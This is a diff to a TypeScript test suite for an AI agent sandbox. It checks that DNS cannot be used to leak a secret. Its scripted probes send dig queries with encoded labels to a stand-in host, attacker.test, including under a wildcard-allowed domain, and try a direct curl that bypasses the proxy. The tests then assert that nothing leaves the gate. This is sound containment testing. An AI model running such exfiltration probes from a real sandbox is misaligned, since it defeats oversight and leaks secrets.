@@ -20,8 +20,10 @@ import {
 /**
  * DNS as an exfiltration channel. The bottle's resolver is Docker's embedded
  * DNS, which forwards every name it does not own to the gate; the gate
- * answers only names on the allowlist and returns NXDOMAIN for everything
- * else without resolving or forwarding it.
+ * returns NXDOMAIN for names off the allowlist and answers names on it
+ * itself (A: its own address; other types: empty), resolving and forwarding
+ * nothing — not even a subdomain the agent invents under a wildcard allow.
+ * Only the proxy resolves, when it connects.
  *
  * What this test can observe, for real:
  *  - the bottle's side: NXDOMAIN / no answer for every attempt;
@@ -43,6 +45,21 @@ import {
 const SECRET = `esc-${crypto.randomUUID().replace(/-/g, "").slice(0, 24)}`;
 const tag = Math.random().toString(36).slice(2, 8);
 const label = (what: string) => `exfil${tag}${what}`;
+/**
+ * Data the agent puts in a name under its wildcard allow (`*.wild.test`).
+ * The world container carries it as an alias, so even a gate that did
+ * resolve it would get its answer from Docker's DNS on this machine, where
+ * the capture sees the lookup, and never from a real resolver.
+ */
+const WILD = `${label("wild")}.${"d".repeat(40)}.wild.test`;
+
+/** The capture, one entry per packet: tcpdump's header line and its payload (ASCII). */
+function packets(capture: string): string[] {
+  return capture.split(/\n(?=\d\d:\d\d:\d\d\.\d+ )/).filter((packet) => /^\d\d:\d\d:\d\d\.\d+ /.test(packet));
+}
+
+/** Packets of the gate's own lookups through Docker's DNS (127.0.0.11) that carry `name`. */
+const gateLookups = (capture: string, name: string) => packets(capture).filter((packet) => packet.split("\n")[0]!.includes("127.0.0.11") && packet.includes(name));
 
 describeEscape(
   ["docker"],
@@ -59,10 +76,10 @@ describeEscape(
     attacker = await upAttacker({
       prefix: "esc-dns",
       sandboxEnv: { ESCAPE_SECRET: SECRET },
-      manifest: ["egress:", "  allow: [allowed.test]", "  allow_private: [allowed.test]", "env:", "  LEAK_ME: ${ESCAPE_SECRET}"],
+      manifest: ["egress:", '  allow: [allowed.test, control.test, "*.wild.test"]', "  allow_private: [allowed.test, control.test]", "env:", "  LEAK_ME: ${ESCAPE_SECRET}"],
     });
     // The canary (port 53/udp+tcp of the world container) also serves allowed.test.
-    world = startWorld(attacker, ["allowed.test", "canary.test"]);
+    world = startWorld(attacker, ["allowed.test", "control.test", "canary.test", WILD]);
   }, SETUP_TIMEOUT_MS);
 
   afterAll(async () => {
@@ -79,8 +96,10 @@ describeEscape(
       const status = (id: string, command: string) => `printf '\\nCASE ${id} '; ${command} 2>&1 | grep -o -m1 -e 'status: [A-Z]*' -e 'no servers could be reached' -e 'timed out' || echo no-output`;
       const long = `${label("long")}${"a".repeat(40)}.${"b".repeat(63)}.${"c".repeat(63)}`;
       const script = [
-        // Control: an allowed name resolves (and the gate's lookup shows in the capture).
+        // Controls: an allowed name is answered (with the gate's address); through the
+        // proxy it is reached, and the gate's own lookup for that shows in the capture.
         `printf '\\nCASE control '; ${dig} +short allowed.test`,
+        `printf '\\nCASE proxy-control '; curl -sS --max-time 5 http://allowed.test/dns-control`,
         status("udp", `${dig} ${label("udp")}.attacker.test`),
         status("tcp", `${dig} +tcp ${label("tcp")}.attacker.test`),
         status("txt", `${dig} TXT ${label("txt")}.attacker.test`),
@@ -117,9 +136,10 @@ describeEscape(
           .slice(1)
           .map((chunk) => [chunk.slice(0, chunk.indexOf(" ")), chunk.slice(chunk.indexOf(" ") + 1).trim()]),
       );
-      expect(cases.control).toBe(world.ip);
+      expect(cases.control).toBe(attacker.gateIp);
       expect(cases).toEqual({
-        control: world.ip,
+        control: attacker.gateIp,
+        "proxy-control": "hello from allowed.test /dns-control",
         udp: "status: NXDOMAIN",
         tcp: "status: NXDOMAIN",
         txt: "status: NXDOMAIN",
@@ -155,13 +175,61 @@ describeEscape(
 
       // Nothing reached the canary, and the gate sent none of these names anywhere.
       expect(world.events().filter((e) => e.ev.startsWith("dns"))).toEqual([]);
-      expect(capture).toContain("allowed.test"); // the control lookup is visible
+      expect(gateLookups(capture, "allowed.test")).not.toEqual([]); // the proxy's lookup is visible
       const leaked = [...capture.matchAll(new RegExp(`exfil${tag}\\w+`, "g"))].map((m) => m[0]);
       expect(leaked).toEqual([]);
       for (const form of Object.values(encodings(SECRET))) {
         expect(capture).not.toContain(form);
         expect(attacker.auditText()).not.toContain(form);
       }
+    },
+    TEST_TIMEOUT_MS,
+  );
+
+  test(
+    "5. a name the agent invents under a wildcard allow is answered in the gate (A: the gate's own address) and never leaves it",
+    async () => {
+      sniffer = startSniffer(tools, `${attacker.name}-gate`, attacker.label, ["not", "arp", "and", "not", "(", "host", attacker.gateIp, "and", "port", "53", ")"]);
+      const dig = "dig +tries=1 +time=2";
+      const script = [
+        `printf '\\nCASE a '; ${dig} +short ${WILD}`,
+        `printf '\\nCASE a-tcp '; ${dig} +tcp +short ${WILD}`,
+        `printf '\\nCASE aaaa '; ${dig} AAAA ${WILD} | grep -o -m1 'status: [A-Z]*'`,
+        `printf '\\nCASE aaaa-answers '; ${dig} +short AAAA ${WILD}`,
+        `printf '\\nCASE txt '; ${dig} TXT ${WILD} | grep -o -m1 'status: [A-Z]*'`,
+        `printf '\\nCASE txt-answers '; ${dig} +short TXT ${WILD}`,
+        `printf '\\nCASE getent '; getent hosts ${WILD} | awk '{ print $1 }'`,
+        // A direct connection goes to the gate, where nothing listens on port 80: it fails at once.
+        `printf '\\nCASE direct '; s=$(date +%s%N); curl -sS --noproxy '*' --connect-timeout 5 -o /dev/null http://${WILD}/ 2>/dev/null; rc=$?; [ $(( ($(date +%s%N) - s) / 1000000 )) -lt 2000 ] && fast=fast || fast=slow; echo "rc=$rc $fast"`,
+        // Control: the proxy resolves when it connects, and that lookup is visible in the capture.
+        `printf '\\nCASE proxy-control '; curl -sS --max-time 5 http://control.test/wild-control`,
+        "echo",
+      ].join("\n");
+      const out = await attacker.sh(script);
+      const capture = sniffer.stop();
+      sniffer = undefined;
+
+      const cases = Object.fromEntries(
+        out.stdout
+          .split("\nCASE ")
+          .slice(1)
+          .map((chunk) => [chunk.slice(0, chunk.indexOf(" ")), chunk.slice(chunk.indexOf(" ") + 1).trim()]),
+      );
+      // The invented name appears nowhere the gate sends packets: not upstream, not to Docker's DNS.
+      expect(gateLookups(capture, "control.test")).not.toEqual([]);
+      expect(packets(capture).filter((packet) => packet.includes(label("wild")))).toEqual([]);
+      expect(cases).toEqual({
+        a: attacker.gateIp,
+        "a-tcp": attacker.gateIp,
+        aaaa: "status: NOERROR",
+        "aaaa-answers": "",
+        txt: "status: NOERROR",
+        "txt-answers": "",
+        getent: attacker.gateIp,
+        direct: "rc=7 fast",
+        "proxy-control": "hello from control.test /wild-control",
+      });
+      expect(capture).not.toContain(label("wild"));
     },
     TEST_TIMEOUT_MS,
   );
